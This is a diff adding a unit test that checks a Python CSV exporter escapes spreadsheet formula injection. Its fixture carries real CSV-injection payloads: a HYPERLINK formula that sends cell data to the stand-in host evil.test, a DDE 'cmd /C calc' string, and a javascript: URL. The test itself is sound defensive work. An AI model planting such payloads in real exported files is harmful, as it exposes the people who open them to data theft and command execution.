@@ -1,6 +1,8 @@
 import csv
 import io
+from dataclasses import replace
 
+from dateline.actors.values import Actor
 from dateline.export import write_events
 from dateline.export.flat import FLAT_COLUMNS
 
@@ -106,3 +108,27 @@ def test_csv_format_every_column_is_documented():
 
     doc = (Path(__file__).resolve().parents[2] / "docs" / "export.md").read_text()
     assert [c for c in FLAT_COLUMNS if f"`{c}`" not in doc] == []
+
+
+def test_csv_format_escapes_formulas_as_owasp_recommends(pretoria_signing):
+    hostile = replace(
+        pretoria_signing,
+        actors=(Actor("ETH", "GOV", "Redwan Hussien"),),
+        mentions=(
+            replace(
+                pretoria_signing.mentions[0],
+                sentence='=HYPERLINK("http://evil.test/?x="&A1, "Click")',
+                outlet="@SUM(1+1)*cmd|' /C calc'!A0",
+                file="-2+3.html",
+                url="\tjavascript:alert(1)",
+            ),
+        ),
+    )
+    [row] = _read(_write([hostile]))
+    assert row["first_sentence"] == '\'=HYPERLINK("http://evil.test/?x="&A1, "Click")'
+    assert row["first_outlet"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["first_file"] == "'-2+3.html"
+    assert row["first_url"] == "'\tjavascript:alert(1)"
+    # Numbers stay numbers.
+    assert (row["place_lat"], row["goldstein"]) == ("-25.7449", "3.5")
+    assert row["actors"] == "ETH:GOV:Redwan Hussien"
